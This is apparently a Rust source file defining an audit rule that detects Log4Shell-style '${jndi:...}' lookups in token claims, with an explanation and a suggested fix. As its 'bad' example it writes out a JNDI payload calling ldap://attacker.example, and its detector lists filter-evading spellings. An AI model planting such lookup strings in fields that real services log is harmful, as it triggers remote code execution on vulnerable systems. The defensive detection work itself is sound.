//! A claim that makes a logger fetch and run something.

use crate::check::audit::usual::usual_claims_and;
use crate::check::audit::{Example, Family, Found, Look, Risk, Rule, Subject, Written};

pub(super) static RULE: Rule = Rule::of(Written {
    id: "injection-lookup",
    family: Family::Claims,
    risk: Risk::High,
    summary: "a claim holds a lookup such as `${jndi:...}`, which old loggers expand",
    why: "A service that writes the claim to its log with an old Log4j fetches code from the address in it and runs it. Somebody \
          chose that text, for instance as a user name, to try this.",
    how: "Since Log4Shell, CVE-2021-44228, scanners write such a text into any field that might be logged: user agent, \
          display name, and claims that echo them. It need not be signed by you; failed tokens get logged as well. \
          Search logs for `${` in all spellings and outgoing LDAP or DNS traffic at the same time. Message lookups are \
          gone from Log4j since 2.16.0, and 2.17.1 closed the related holes.",
    fix: "update the logging library, find out who made the token, and look at the logs of whatever read it",
    sources: &["CVE-2021-44228", "RFC 8725 2.9"],
    bad: Example::claims(usual_claims_and!(r#""nickname":"${jndi:ldap://attacker.example/a}""#)),
    good: Example::claims(usual_claims_and!(r#""nickname":"jndi""#)),
    look: Look::At(look),
});

fn look(subject: &Subject<'_>, found: &mut Found<'_>) {
    subject.remark_on_texts(found, |text| {
        // The second form hides the word from filters: `${${lower:j}ndi:...}`.
        let lower = text.text.to_ascii_lowercase();
        let is_lookup = lower.contains("${jndi:")
            || lower.contains("${${")
            || ["${lower:", "${upper:", "${env:", "${::-"].iter().any(|start| lower.contains(start));
        is_lookup.then(|| format!("{} holds a lookup that old loggers expand", text.called()))
    });
}
